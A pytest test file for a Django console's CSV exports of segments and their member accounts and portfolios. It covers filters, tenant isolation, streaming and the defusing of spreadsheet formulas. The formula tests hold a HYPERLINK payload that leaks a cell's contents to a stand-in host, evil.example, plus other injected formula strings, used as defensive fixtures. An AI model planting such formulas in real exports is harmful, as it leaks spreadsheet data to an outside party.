"""CSV exports of the console: the Segments tab and a segment's Members tab, streamed,
with the tab's filters and tenancy."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from rest_framework.test import APIClient

from segments.models import Account, Role, Status
from tests.factories import (
    AccountFactory,
    LedgerFactory,
    PortfolioFactory,
    SegmentFactory,
    UserFactory,
    member,
    token_for,
)

pytestmark = pytest.mark.django_db


def segments_url(ledger) -> str:
    return reverse("exports:segments_csv", args=[ledger.organization_id, ledger.pk])


def members_url(ledger, segment) -> str:
    return reverse(
        "exports:segment_members_csv", args=[ledger.organization_id, ledger.pk, segment.pk]
    )


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def viewer_client(client, users):
    client.force_login(users["viewer"])
    return client


# --------------------------------------------------------------------------- segments tab


def test_viewer_exports_the_ledgers_segments_with_member_counts(viewer_client, ledger):
    black = SegmentFactory(ledger=ledger, name="Black", metadata={"tier": "black"})
    SegmentFactory(ledger=ledger, name="Gold", status_code=Status.INACTIVE)
    SegmentFactory(ledger=LedgerFactory(organization=ledger.organization), name="Elsewhere")
    AccountFactory.create_batch(2, ledger=ledger, segment=black)
    PortfolioFactory(ledger=ledger, segment=black)
    rows = read_csv(viewer_client.get(segments_url(ledger)))
    assert [r["name"] for r in rows] == ["Black", "Gold"]
    assert (rows[0]["accounts"], rows[0]["portfolios"], rows[0]["scope"]) == ("2", "1", "ledger")
    assert rows[0]["metadata"] == '{"tier":"black"}'
    assert rows[0]["id"] == str(black.pk)


def test_segments_export_applies_the_tabs_filters(viewer_client, ledger):
    SegmentFactory(ledger=ledger, name="Black")
    SegmentFactory(ledger=ledger, name="Gold", status_code=Status.INACTIVE)
    rows = read_csv(viewer_client.get(segments_url(ledger), {"status": "inactive"}))
    assert [r["name"] for r in rows] == ["Gold"]
    rows = read_csv(viewer_client.get(segments_url(ledger), {"q": "bla", "page": "3"}))
    assert [r["name"] for r in rows] == ["Black"], "every row, whatever page the tab shows"
    rows = read_csv(viewer_client.get(segments_url(ledger), {"sort": "name", "sort_order": "desc"}))
    assert [r["name"] for r in rows] == ["Gold", "Black"]


def test_segments_export_streams_more_rows_than_a_page(viewer_client, ledger):
    SegmentFactory.create_batch(150, ledger=ledger)
    assert len(read_csv(viewer_client.get(segments_url(ledger)))) == 150


def test_bad_filter_is_a_bad_request(viewer_client, ledger):
    response = viewer_client.get(segments_url(ledger), {"status": "NOPE"})
    assert response.status_code == 400
    assert b"status must be one of" in response.content


def test_anonymous_visitor_is_sent_to_login(client, ledger):
    response = client.get(segments_url(ledger))
    assert response.status_code == 302
    assert reverse("console:login") in response["Location"]


def test_non_member_gets_404(client, users, ledger, other_ledger):
    client.force_login(users["outsider"])
    assert client.get(segments_url(ledger)).status_code == 404
    client.force_login(users["viewer"])
    assert client.get(segments_url(other_ledger)).status_code == 404
    wrong_path = reverse("exports:segments_csv", args=[ledger.organization_id, other_ledger.pk])
    assert client.get(wrong_path).status_code == 404


def test_free_text_that_a_spreadsheet_would_run_is_defused(viewer_client, ledger):
    SegmentFactory(ledger=ledger, name="=HYPERLINK(1)", description="+1")
    (row,) = read_csv(viewer_client.get(segments_url(ledger)))
    assert (row["name"], row["description"]) == ("'=HYPERLINK(1)", "'+1")


# --------------------------------------------------------------------------- members tab


def test_members_export_lists_accounts_then_portfolios(viewer_client, ledger):
    segment = SegmentFactory(ledger=ledger, name="Black")
    portfolio = PortfolioFactory(ledger=ledger, segment=segment, name="Family")
    account = AccountFactory(
        ledger=ledger, segment=segment, alias="@alice", portfolio=portfolio, blocked=True
    )
    AccountFactory(ledger=ledger)
    rows = read_csv(viewer_client.get(members_url(ledger, segment)))
    assert [(r["kind"], r["id"]) for r in rows] == [
        ("account", str(account.pk)),
        ("portfolio", str(portfolio.pk)),
    ]
    first = rows[0]
    assert (first["alias"], first["type"], first["asset_code"]) == ("'@alice", "deposit", "BRL")
    assert (first["portfolio_id"], first["blocked"]) == (str(portfolio.pk), "true")
    assert (first["segment_id"], first["segment_name"]) == (str(segment.pk), "Black")
    assert rows[1]["name"] == "Family"


def test_members_export_of_one_kind_and_filtered(viewer_client, ledger):
    segment = SegmentFactory(ledger=ledger)
    AccountFactory(ledger=ledger, segment=segment, alias="@alice")
    AccountFactory(ledger=ledger, segment=segment, alias="@bob")
    PortfolioFactory(ledger=ledger, segment=segment)
    rows = read_csv(viewer_client.get(members_url(ledger, segment), {"kind": "accounts"}))
    assert [r["alias"] for r in rows] == ["'@alice", "'@bob"]
    rows = read_csv(viewer_client.get(members_url(ledger, segment), {"kind": "portfolios"}))
    assert [r["kind"] for r in rows] == ["portfolio"]
    rows = read_csv(
        viewer_client.get(members_url(ledger, segment), {"kind": "accounts", "q": "bob"})
    )
    assert [r["alias"] for r in rows] == ["'@bob"]
    assert viewer_client.get(members_url(ledger, segment), {"kind": "x"}).status_code == 400


def test_organization_segment_members_export_under_a_ledger(viewer_client, organization, ledger):
    segment = SegmentFactory(ledger=None, organization=organization, name="Private")
    other = LedgerFactory(organization=organization)
    AccountFactory(ledger=ledger, segment=segment)
    AccountFactory(ledger=other, segment=segment)
    rows = read_csv(viewer_client.get(members_url(ledger, segment)))
    assert {r["ledger_id"] for r in rows} == {str(ledger.pk), str(other.pk)}


def test_members_export_refuses_other_ledgers_and_tenants(client, users, organization, ledger):
    elsewhere = SegmentFactory(ledger=LedgerFactory(organization=organization))
    client.force_login(users["viewer"])
    assert client.get(members_url(ledger, elsewhere)).status_code == 404
    client.force_login(users["outsider"])
    assert client.get(members_url(ledger, SegmentFactory(ledger=ledger))).status_code == 404


def test_members_export_streams_thousands_of_rows(client, organization, ledger):
    user = UserFactory()
    member(user, organization, Role.OPERATOR)
    client.force_login(user)
    segment = SegmentFactory(ledger=ledger)
    Account.objects.bulk_create(
        [
            Account(
                ledger=ledger,
                organization=organization,
                segment=segment,
                type="deposit",
                asset_code="BRL",
                alias=f"@bulk-{index}",
            )
            for index in range(2500)
        ],
        batch_size=1000,
    )
    response = client.get(members_url(ledger, segment))
    chunks = list(response.streaming_content)
    assert len(chunks) > 1, "written in chunks, not as one string"
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert len(rows) == 2500


# --------------------------------------------------------------------------- formulas

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    """No cell of the file starts as a formula (OWASP's list)."""
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)


@pytest.fixture
def hostile_segment(ledger, users):
    """A segment whose member account and portfolio carry formulas in every text the API
    accepts, created through the API as a tenant would; and a portfolio whose texts start
    with a tab and a carriage return (rows older than the API's text rules)."""
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {token_for(users['operator'])}")
    base = f"/v1/organizations/{ledger.organization_id}/ledgers/{ledger.pk}"
    segment = api.post(f"{base}/segments", {"name": "+Black", "description": "-1"}, format="json")
    assert segment.status_code == 201, segment.content
    portfolio = api.post(f"{base}/portfolios", {"name": "=1+1", "entityId": "@cmd"}, format="json")
    assert portfolio.status_code == 201, portfolio.content
    account = api.post(
        f"{base}/accounts",
        {
            "name": "@SUM(1+1)",
            "type": HYPERLINK,
            "assetCode": "BRL",
            "alias": "-2-3",
            "entityId": "+cmd",
        },
        format="json",
    )
    assert account.status_code == 201, account.content
    segment_id = segment.json()["id"]
    assigned = api.post(
        f"{base}/segments/{segment_id}/members",
        {"accountIds": [account.json()["id"]], "portfolioIds": [portfolio.json()["id"]]},
        format="json",
    )
    assert assigned.status_code == 200, assigned.content
    PortfolioFactory(ledger=ledger, segment_id=segment_id, name="\t=1", entity_id="\r=2")
    return segment_id


def test_members_export_defuses_every_text_cell(viewer_client, ledger, hostile_segment):
    url = reverse(
        "exports:segment_members_csv", args=[ledger.organization_id, ledger.pk, hostile_segment]
    )
    rows = read_csv(viewer_client.get(url))
    assert_no_formula(rows)
    account, portfolio, old_portfolio = rows
    assert account["type"] == "'" + HYPERLINK
    assert (account["alias"], account["name"]) == ("'-2-3", "'@SUM(1+1)")
    assert account["entity_id"] == "'+cmd"
    assert (account["segment_name"], account["asset_code"]) == ("'+Black", "BRL")
    assert (portfolio["name"], portfolio["entity_id"]) == ("'=1+1", "'@cmd")
    assert (old_portfolio["name"], old_portfolio["entity_id"]) == ("'\t=1", "'\r=2")


def test_segments_export_defuses_text_and_keeps_numbers(viewer_client, ledger, hostile_segment):
    SegmentFactory(ledger=ledger, name="Gold", status_description="@now", metadata={"k": "=1"})
    rows = read_csv(viewer_client.get(segments_url(ledger), {"sort": "name"}))
    assert_no_formula(rows)
    black, gold = rows
    assert (black["name"], black["description"]) == ("'+Black", "'-1")
    assert (black["accounts"], black["portfolios"]) == ("1", "2"), "numbers stay numbers"
    assert gold["status_description"] == "'@now"
    assert gold["metadata"] == '{"k":"=1"}', "a JSON object never starts a formula"


def test_admin_member_exports_defuse_every_text_cell(client, ledger, hostile_segment):
    client.force_login(UserFactory(username="staff", is_staff=True, is_superuser=True))
    action = client.post(
        "/admin/segments/segment/",
        {"action": "export_members_csv", "_selected_action": [hostile_segment]},
    )
    page = client.get(f"/admin/segments/segment/{hostile_segment}/members.csv")
    for response in (action, page):
        rows = read_csv(response)
        assert len(rows) == 3
        assert_no_formula(rows)
        assert rows[0]["type"] == "'" + HYPERLINK
